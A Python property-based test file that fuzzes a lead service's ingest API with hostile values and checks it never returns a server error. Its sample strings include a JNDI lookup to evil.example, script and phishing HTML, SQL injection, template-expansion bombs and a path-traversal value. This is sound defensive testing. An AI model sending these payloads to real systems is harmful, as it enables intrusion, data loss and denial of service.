"""Hostile values at the ingest edge, through a real dev server and worker (issue 13): times
at the datetime bounds and with odd offsets, sizes at and over each limit, deep nesting, NUL
and other unicode, template syntax and HTML in every text field, in events, profiles and CSV
rows.

The property: the edge answers 2xx or 4xx, never 5xx; a refusal names the field; whatever it
accepted reaches the lead exactly as sent; afterwards the lead still answers its query and
applies its next event. Examples are bounded so the file runs in well under a minute.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import math
import os
import uuid
from collections import Counter
from collections.abc import Callable, Coroutine
from datetime import UTC, datetime, timedelta
from typing import TYPE_CHECKING, Any

import httpx
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from nurture.contract.messages import LeadState
from nurture.domain.leads import (
    CUSTOM_KEYS_MAX,
    CUSTOM_TEXT_MAX,
    PROPS_BYTES_MAX,
    PROPS_DEPTH_MAX,
    TEXT_MAX,
    URL_MAX,
)
from nurture.store.db import make_engine
from nurture.web.event_store import EventStore
from tests.conftest import lead_id, lead_state, wait_for_state

if TYPE_CHECKING:
    from tests.web_api import Api

pytest_plugins = ["tests.web_api"]  # the `api` fixture: the service with a worker

EXAMPLES = int(os.environ.get("NURTURE_HOSTILE_EXAMPLES", "40"))  # more to explore locally
BOUNDED = settings(
    max_examples=EXAMPLES,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)

TRICKY_TEXT = [
    "{{ 7*7 }}",
    "{{ nope }}",
    "{{ accept_url }}",
    "{% for i in range(99999) %}{% for j in range(99999) %}x{% endfor %}{% endfor %}",
    "${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script>",
    '<a href="https://evil.example/phish">click</a>',
    "'; DROP TABLE lead; --",
    "\x00",
    "a\x00b",
    "\x1b[31mred",
    "\ud800",
    "\u202eevil",
    "Zoë 👩‍💻 日本語",
    "\r\n",
    "",
    " ",
]


def text_at_the_limits(*limits: int) -> st.SearchStrategy[str]:
    return st.sampled_from([n for limit in limits for n in (limit, limit + 1)]).map(
        lambda n: "é" * n
    )


hostile_text = st.one_of(
    st.sampled_from(TRICKY_TEXT),
    st.text(max_size=30),
    st.text(alphabet=st.characters(codec=None, categories=["Cs", "Cc", "Zs"]), max_size=5),
    text_at_the_limits(100, 200, 500, CUSTOM_TEXT_MAX),
)

OFFSETS = ["Z", "+00:00", "-12:00", "+14:00", "-14:00", "+23:59", "-23:59", "+05:45", "+12:45"]


def moments() -> st.SearchStrategy[str]:
    now = datetime.now(UTC).replace(tzinfo=None)
    local = st.one_of(
        st.sampled_from(
            [
                "9999-12-31T23:59:59",
                "0001-01-01T00:00:00",
                "2000-01-01T00:00:00",
                "1999-12-31T23:59:59",
                "1970-01-01T00:00:00",
            ]
        ),
        st.datetimes(min_value=datetime(1, 1, 1), max_value=datetime(9999, 12, 31)).map(
            lambda d: d.isoformat()
        ),
        st.integers(-3 * 365 * 86400, 3 * 86400).map(
            lambda s: (now + timedelta(seconds=s)).isoformat(timespec="seconds")
        ),
    )
    return st.builds(lambda t, o: t + o, local, st.sampled_from(OFFSETS))


def nested(depth: int) -> dict[str, Any]:
    value: dict[str, Any] = {"leaf": 1}
    for _ in range(depth - 1):
        value = {"a": value}
    return value


scalars = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(),  # NaN and ±Infinity included: JSON as Python writes it
    hostile_text,
)
props = st.one_of(
    st.recursive(
        scalars,
        lambda children: (
            st.lists(children, max_size=3) | st.dictionaries(hostile_text, children, max_size=3)
        ),
        max_leaves=8,
    ).map(lambda value: {"value": value}),
    st.sampled_from([PROPS_DEPTH_MAX - 1, PROPS_DEPTH_MAX, PROPS_DEPTH_MAX + 1, 220, 300]).map(
        nested
    ),
    st.sampled_from([PROPS_BYTES_MAX - 100, PROPS_BYTES_MAX + 1]).map(lambda n: {"x": "y" * n}),
)
hostile_lead_ids = st.one_of(
    st.sampled_from(["lead-jane.doe@acme.com", "+4915112345678", "x" * 201, "-x", "a b"]),
    hostile_text,
)


@st.composite
def events(draw: st.DrawFn) -> dict[str, Any]:
    event: dict[str, Any] = {
        "lead_id": draw(hostile_lead_ids) if draw(st.integers(0, 9)) == 0 else lead_id("hv"),
        "type": draw(st.sampled_from(["page_view", "download", "blog_visit", "teleport", "A"])),
    }
    optional = {
        "at": st.one_of(moments(), hostile_text),
        "campaign": st.one_of(st.sampled_from(["webinar-q4", "a" * 64, "a" * 65]), hostile_text),
        "url": st.one_of(
            st.just("https://corp.example/pricing"),
            text_at_the_limits(URL_MAX).map(lambda s: "https://x/" + s[9:]),
            hostile_text,
        ),
        "props": props,
        "event_id": st.one_of(st.just("e" * 200), st.just("e" * 201), hostile_text),
    }
    for name, strategy in optional.items():
        if draw(st.booleans()):
            event[name] = draw(strategy)
    return event


@st.composite
def profiles(draw: st.DrawFn) -> dict[str, Any]:
    profile: dict[str, Any] = {"lead_id": lead_id("hp")}
    values: dict[str, st.SearchStrategy[Any]] = {
        name: st.one_of(st.none(), hostile_text, text_at_the_limits(limit))
        for name, limit in TEXT_MAX.items()
    }
    values["email"] = st.one_of(st.none(), st.just("a@corp.example"), hostile_text)
    values["timezone"] = st.sampled_from(
        [None, "Europe/Berlin", "Mars/Olympus", "../../etc/passwd", "UTC", ""]
    )
    values["company_size"] = st.one_of(st.none(), st.integers(-1, 10**12))
    values["budget"] = st.one_of(st.none(), st.floats())
    custom_values = st.one_of(scalars, text_at_the_limits(CUSTOM_TEXT_MAX))
    values["custom"] = st.one_of(
        st.dictionaries(st.one_of(st.text(max_size=70), hostile_text), custom_values, max_size=4),
        st.sampled_from([CUSTOM_KEYS_MAX, CUSTOM_KEYS_MAX + 1]).map(
            lambda n: {f"k{i}": i for i in range(n)}
        ),
    )
    for name in draw(st.sets(st.sampled_from(sorted(values)), max_size=6)):
        profile[name] = draw(values[name])
    return profile


# Accepted every run (hypothesis may draw only refusals): template syntax and HTML are data.
TEMPLATE_AND_HTML_EVENT = {
    "lead_id": lead_id("hv"),
    "type": "page_view",
    "url": "https://corp.example/?q={{ accept_url }}<script>alert(1)</script>",
    "props": {"{{ 7*7 }}": "<b>bold</b>", "nested": {"{% raw %}": ["Zoë 👩‍💻", None, 1.5]}},
}
TEMPLATE_AND_HTML_PROFILE = {
    "lead_id": lead_id("hp"),
    "first_name": "{{ 7*7 }}",
    "last_name": "{{ nope }}",
    "company": "{{ accept_url }}",
    "title": "{% for i in range(99999) %}{% for j in range(99999) %}x{% endfor %}{% endfor %}",
    "industry": "${jndi:ldap://evil.example/a}",
    "region": "<script>alert(1)</script>",
    "country": '<a href="https://evil.example/phish">click</a>',
    "timeframe": "'; DROP TABLE lead; --",
    "address": "Zoë 👩‍💻 日本語\r\n<i>x</i>",
    "custom": {"note": "{{ nope }}", "html": "<a href='https://evil.example'>x</a>"},
}


def on_this_loop() -> Callable[[Coroutine[Any, Any, str]], str]:
    """Hypothesis drives examples synchronously (in a thread); each runs on the test's loop,
    where the server, worker and client live."""
    loop = asyncio.get_running_loop()

    def run(check: Coroutine[Any, Any, str]) -> str:
        return asyncio.run_coroutine_threadsafe(check, loop).result(timeout=60)

    return run


async def post_json(api: Api, path: str, body: object, who: str = "ingest") -> httpx.Response:
    """JSON as Python writes it: lone surrogates escaped, NaN and Infinity as bare words."""
    headers = {**api.auth(who), "Content-Type": "application/json"}
    return await api.http.post(path, content=json.dumps(body), headers=headers)


def verdict(answer: httpx.Response) -> dict[str, Any] | None:
    """The one item's result, once the answer is known to be 2xx or 4xx with a reason."""
    assert answer.status_code < 500, answer.text[:500]
    body = answer.json()
    if "items" not in body:  # refused as a whole (e.g. not JSON): a 4xx with a detail
        assert 400 <= answer.status_code < 500 and body["detail"], body
        return None
    for item in body["items"]:
        if item["status"] == "rejected":
            assert item["errors"] and all(e["msg"] for e in item["errors"]), item
    return dict(body["items"][0])


async def still_alive(api: Api, lead: str, events_before: int) -> None:
    """The lead answers its query and applies its next event."""
    next_event = {"lead_id": lead, "type": "page_view"}
    answer = await post_json(api, "/api/events", next_event)
    assert answer.status_code == 200, answer.text
    handle = api.engine.client.get_workflow_handle(f"lead-{lead}")
    await wait_for_state(handle, lambda s: s.events_applied == events_before + 1)
    seen = await api.http.get(f"/api/leads/{lead}", headers=api.auth("marketer"))
    assert seen.status_code == 200, seen.text


async def refused_or_applied(
    api: Api, path: str, item: dict[str, Any], applied: Callable[[LeadState], bool]
) -> str:
    """Post ``item``: "refused" (a 4xx naming why), or "accepted" once the lead shows it
    ``applied`` and still answers and applies its next event."""
    result = verdict(await post_json(api, path, item))
    if result is None or result["status"] != "accepted":
        return "refused"
    handle = api.engine.client.get_workflow_handle(f"lead-{item['lead_id']}")
    state = await wait_for_state(handle, applied)
    await still_alive(api, item["lead_id"], events_before=state.events_applied)
    return "accepted"


async def test_hostile_events_are_refused_or_reach_the_lead(api: Api) -> None:
    run = on_this_loop()

    async def check(item: dict[str, Any]) -> str:
        return await refused_or_applied(api, "/api/events", item, lambda s: s.events_applied == 1)

    @BOUNDED
    @given(item=events())
    @example(item=TEMPLATE_AND_HTML_EVENT)
    def property_(item: dict[str, Any]) -> None:
        outcomes[run(check(item))] += 1

    outcomes: Counter[str] = Counter()
    await asyncio.to_thread(property_)
    assert outcomes["accepted"], outcomes  # the accepted path ran, not only refusals


def differences(state: LeadState, sent: dict[str, Any]) -> list[str]:
    """The profile fields the lead does not hold as sent (null cleared; custom merged), each
    with both values in ASCII (a failure report must survive control characters)."""
    found = []
    for name, value in sent.items():
        if name == "lead_id":
            continue
        held = getattr(state.profile, name)
        if name == "custom":
            value = {k: v for k, v in value.items() if v is not None}
        if isinstance(value, float) and isinstance(held, float) and math.isclose(value, held):
            continue
        if held != value:
            found.append(f"{name}: sent {ascii(value)[:300]}, held {ascii(held)[:300]}")
    return found


async def test_hostile_profiles_are_refused_or_reach_the_lead(api: Api) -> None:
    run = on_this_loop()

    async def check(profile: dict[str, Any]) -> str:
        # as JSON carries it: an escaped surrogate pair arrives as the one character it
        # writes, and the lead rightly holds that character
        sent = json.loads(json.dumps(profile))
        try:
            return await refused_or_applied(
                api, "/api/leads", profile, lambda s: not differences(s, sent)
            )
        except AssertionError as failed:
            handle = api.engine.client.get_workflow_handle(f"lead-{profile['lead_id']}")
            state = await lead_state(handle)
            raise AssertionError(f"{differences(state, sent)} of {profile!a}") from failed

    @BOUNDED
    @given(profile=profiles())
    @example(profile=TEMPLATE_AND_HTML_PROFILE)
    def property_(profile: dict[str, Any]) -> None:
        outcomes[run(check(profile))] += 1

    outcomes: Counter[str] = Counter()
    await asyncio.to_thread(property_)
    assert outcomes["accepted"], outcomes  # the accepted path ran, not only refusals


CSV_COLUMNS = ["email", "first_name", "company", "title", "timezone", "custom.plan"]
csv_cells = st.one_of(
    hostile_text,
    st.sampled_from(['"quoted, with comma"', "line\nbreak", "x" * 131_073, "Europe/Berlin"]),
)


async def test_hostile_csv_rows_are_refused_or_reach_the_lead(api: Api) -> None:
    run = on_this_loop()

    async def check(rows: list[list[str]]) -> str:
        ids = [lead_id("hc") for _ in rows]
        out = io.StringIO()
        writer = csv.writer(out)
        writer.writerow(["lead_id", *CSV_COLUMNS])
        writer.writerows([lead, *row] for lead, row in zip(ids, rows, strict=True))
        try:
            content = out.getvalue().encode("utf-8")
        except UnicodeEncodeError:  # a lone surrogate: no UTF-8 file can hold it
            content = out.getvalue().encode("utf-8", "surrogatepass")
        answer = await api.http.post(
            "/api/leads/import",
            content=content,
            headers={**api.auth("marketer"), "Content-Type": "text/csv"},
        )
        assert answer.status_code < 500, answer.text[:500]
        items = answer.json().get("items", [])
        for item in items:
            if item["status"] != "accepted":
                continue
            row = rows[ids.index(item["lead_id"])]
            sent = {
                name: cell.strip()
                for name, cell in zip(CSV_COLUMNS, row, strict=True)
                if cell.strip() and not name.startswith("custom.")
            }
            handle = api.engine.client.get_workflow_handle(f"lead-{item['lead_id']}")

            def arrived(state: LeadState, sent: dict[str, Any] = sent) -> bool:
                return not differences(state, sent)

            await wait_for_state(handle, arrived)
            await still_alive(api, item["lead_id"], events_before=0)
        return "accepted" if any(i["status"] == "accepted" for i in items) else "refused"

    @settings(BOUNDED, max_examples=max(EXAMPLES // 3, 5))
    @given(rows=st.lists(st.lists(csv_cells, min_size=6, max_size=6), min_size=1, max_size=3))
    @example(rows=[["a@corp.example", "{{ 7*7 }}", "<b>Corp</b>", "Zoë", "UTC", "gold"]])
    def property_(rows: list[list[str]]) -> None:
        outcomes[run(check(rows))] += 1

    outcomes: Counter[str] = Counter()
    await asyncio.to_thread(property_)
    assert outcomes["accepted"], outcomes


@st.composite
def action_bodies(draw: st.DrawFn) -> tuple[str, dict[str, Any]]:
    action = draw(st.sampled_from(["accept", "contact", "reject", "outcome"]))
    body: dict[str, Any] = {}
    fields: dict[str, st.SearchStrategy[Any]] = {
        "note": st.one_of(hostile_text, text_at_the_limits(2000)),
        "reason": st.one_of(hostile_text, text_at_the_limits(2000)),
        "result": st.sampled_from(["won", "lost", "draw", ""]),
        "amount": st.one_of(st.floats(), st.integers(-(2**70), 2**70)),
        "rep": st.one_of(st.just("OWNER"), hostile_text),
    }
    for name in draw(st.sets(st.sampled_from(sorted(fields)), max_size=4)):
        body[name] = draw(fields[name])
    return action, body


async def test_hostile_rep_action_bodies_are_answered_without_a_server_error(api: Api) -> None:
    """Rep actions carry a rep's text to the lead: refused (4xx) or applied, never a 5xx, and
    the lead keeps answering."""
    run = on_this_loop()
    lead = lead_id("ha")
    await api.engine.profile(lead_id=lead, email="ha@corp.example", region="EMEA")
    owner = (await api.engine.request_call(lead)).owner

    async def check(action: str, body: dict[str, Any]) -> str:
        if body.get("rep") == "OWNER":
            body = {**body, "rep": owner}
        answer = await post_json(api, f"/api/leads/{lead}/{action}", body, who="operator")
        assert answer.status_code < 500, answer.text[:500]
        seen = await api.http.get(f"/api/leads/{lead}", headers=api.auth("marketer"))
        assert seen.status_code == 200, seen.text[:500]
        return "accepted" if answer.status_code < 300 else "refused"

    @BOUNDED
    @given(case=action_bodies())
    def property_(case: tuple[str, dict[str, Any]]) -> None:
        outcomes[run(check(*case))] += 1

    outcomes: Counter[str] = Counter()
    await asyncio.to_thread(property_)
    assert outcomes["refused"], outcomes


@BOUNDED
@given(text=hostile_text)
def test_webhook_records_take_any_text(database_url: str, text: str) -> None:
    """What a webhook post carries is recorded whatever its text: a lone surrogate (not
    UTF-8) or NUL (refused by PostgreSQL) failed the whole post with a 500."""
    store = EventStore(make_engine(database_url))
    key = f"sg-{uuid.uuid4().hex}{text}"[:100]
    item = {"event": text, "email": f"{text}@corp.example", "sg_message_id": text}
    assert store.claim(key, item, lead_id=text or None)
    store.finish(key, "recorded", detail=text)
    store.suppress(f"{text}@corp.example", "bounce", "sendgrid bounce", None)
    assert not store.claim(key, item, lead_id=None)  # once, by the same id
